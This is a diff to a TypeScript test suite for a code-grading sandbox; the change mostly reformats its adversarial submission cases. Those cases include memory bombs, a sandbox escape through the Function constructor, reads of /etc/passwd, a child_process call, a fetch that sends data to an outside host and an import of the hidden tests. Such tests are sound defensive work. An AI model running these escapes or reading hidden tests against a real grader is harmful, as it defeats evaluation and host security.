@@ -29,8 +29,7 @@ interface Case {
 const wrong = `export function layerNorm(x: number[]) { return x.map(() => 0.5); }
 export function rmsNorm(x: number[]) { return x.map(() => 0.5); }
 export function groupNorm(x: number[]) { return x.map(() => 0.5); }`;
-const all3 = (body: string) =>
-  ["layerNorm", "rmsNorm", "groupNorm"].map((f) => `export function ${f}(x: any, ...rest: any[]): any { ${body} }`).join("\n");
+const all3 = (body: string) => ["layerNorm", "rmsNorm", "groupNorm"].map((f) => `export function ${f}(x: any, ...rest: any[]): any { ${body} }`).join("\n");
 
 const cases: Case[] = [
   // Monkeypatched built-ins: the harness captured what it needs before student code ran.
@@ -79,7 +78,10 @@ const cases: Case[] = [
   { name: "infinite loop in every call", source: all3("while (true) {}"), testStatuses: ["timeout"] },
   {
     name: "infinite loop in one function keeps the other tests gradable",
-    source: solution.replace("export function groupNorm(x: number[], groups: number, eps = 1e-5): number[] {", "export function groupNorm(x: number[], groups: number, eps = 1e-5): number[] {\n  while (true) {}"),
+    source: solution.replace(
+      "export function groupNorm(x: number[], groups: number, eps = 1e-5): number[] {",
+      "export function groupNorm(x: number[], groups: number, eps = 1e-5): number[] {\n  while (true) {}",
+    ),
     maxScore: "full",
     output: undefined,
   },
@@ -92,9 +94,21 @@ const cases: Case[] = [
   },
   { name: "Atomics.wait forever", source: all3("Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return x;") },
   // Memory and size.
-  { name: "memory bomb", source: all3("const a: any[] = []; for (;;) a.push(new Array(1e5).fill(Math.random())); "), testStatuses: ["memory", "timeout", "error"] },
-  { name: "ArrayBuffer bomb", source: all3("const a: any[] = []; for (;;) a.push(new ArrayBuffer(64 * 1024 * 1024)); "), testStatuses: ["memory", "timeout", "error"] },
-  { name: "memory bomb at top level", source: `const keep: string[] = []; let s = "x"; for (;;) { s = s + s; keep.push(s); }\n${wrong}`, testStatuses: ["memory", "timeout", "error"] },
+  {
+    name: "memory bomb",
+    source: all3("const a: any[] = []; for (;;) a.push(new Array(1e5).fill(Math.random())); "),
+    testStatuses: ["memory", "timeout", "error"],
+  },
+  {
+    name: "ArrayBuffer bomb",
+    source: all3("const a: any[] = []; for (;;) a.push(new ArrayBuffer(64 * 1024 * 1024)); "),
+    testStatuses: ["memory", "timeout", "error"],
+  },
+  {
+    name: "memory bomb at top level",
+    source: `const keep: string[] = []; let s = "x"; for (;;) { s = s + s; keep.push(s); }\n${wrong}`,
+    testStatuses: ["memory", "timeout", "error"],
+  },
   { name: "huge result", source: all3("return new Array(2e7).fill(1.5);"), testStatuses: ["error", "memory", "timeout"] },
   { name: "cyclic result", source: all3("const a: any[] = [1]; a.push(a); return a;"), testStatuses: ["error"] },
   // Building 1e5 levels per call takes most of the 800 ms on a loaded machine: the last tests may time out.
@@ -112,7 +126,10 @@ const cases: Case[] = [
     testStatuses: ["error"],
   },
   { name: "stack getter that loops", source: all3("const e = new Error('x'); Object.defineProperty(e, 'stack', { get() { for (;;) {} } }); throw e;") },
-  { name: "error whose message getter loops", source: all3("const e = new RangeError('x'); Object.defineProperty(e, 'message', { get() { for (;;) {} } }); throw e;") },
+  {
+    name: "error whose message getter loops",
+    source: all3("const e = new RangeError('x'); Object.defineProperty(e, 'message', { get() { for (;;) {} } }); throw e;"),
+  },
   { name: "throwing a Proxy", source: all3("throw new Proxy({}, { get() { throw new Proxy({}, {}); } });") },
   { name: "throwing at top level with an evil name getter", source: `throw { get name() { for (;;) {} }, get message() { for (;;) {} } };\n${wrong}` },
   { name: "stack overflow in a call", source: all3("const f = (n: number): number => f(n + 1) + 1; return [f(0)];"), testStatuses: ["error", "timeout"] },
@@ -126,13 +143,31 @@ const cases: Case[] = [
   },
   // Escapes.
   { name: "process access", source: all3("(process as any).exit(0); return x;"), testStatuses: ["error"] },
-  { name: "Function constructor escape to the host", source: all3("const g = (function () {}).constructor('return this')(); return g.process.mainModule.require('fs').readdirSync('/');"), testStatuses: ["error"] },
-  { name: "static import of fs", source: `import { readFileSync } from "fs";\nexport const layerNorm = () => readFileSync("/etc/passwd");`, status: "rejected" },
+  {
+    name: "Function constructor escape to the host",
+    source: all3("const g = (function () {}).constructor('return this')(); return g.process.mainModule.require('fs').readdirSync('/');"),
+    testStatuses: ["error"],
+  },
+  {
+    name: "static import of fs",
+    source: `import { readFileSync } from "fs";\nexport const layerNorm = () => readFileSync("/etc/passwd");`,
+    status: "rejected",
+  },
   { name: "import of the hidden tests", source: `import tests from "./tests/hidden.test";\nexport const layerNorm = () => tests;`, status: "rejected" },
   { name: "require of child_process", source: `export function layerNorm() { return require("child_process").execSync("id"); }`, status: "rejected" },
-  { name: "computed require and dynamic import", source: all3("const n = 'f' + 's'; try { (globalThis as any).require(n); } catch {} import(n).catch(() => {}); return (require as any)(n);"), testStatuses: ["error"] },
+  {
+    name: "computed require and dynamic import",
+    source: all3("const n = 'f' + 's'; try { (globalThis as any).require(n); } catch {} import(n).catch(() => {}); return (require as any)(n);"),
+    testStatuses: ["error"],
+  },
   { name: "fetch to exfiltrate", source: all3("fetch('http://example.com/?' + JSON.stringify(x)); return x;"), testStatuses: ["error"] },
-  { name: "WebAssembly infinite loop", source: all3("const m = new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,5,1,1,102,0,0,10,9,1,7,0,3,64,12,0,11,11])); (new WebAssembly.Instance(m).exports as any).f(); return x;"), testStatuses: ["timeout", "error"] },
+  {
+    name: "WebAssembly infinite loop",
+    source: all3(
+      "const m = new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,5,1,1,102,0,0,10,9,1,7,0,3,64,12,0,11,11])); (new WebAssembly.Instance(m).exports as any).f(); return x;",
+    ),
+    testStatuses: ["timeout", "error"],
+  },
   // Not even a module.
   { name: "syntax error", source: "export function layerNorm(x: number[] {\n  return x\n}", status: "compile_error" },
   { name: "missing exports", source: "export const answer = 42;\n", testStatuses: ["error"] },
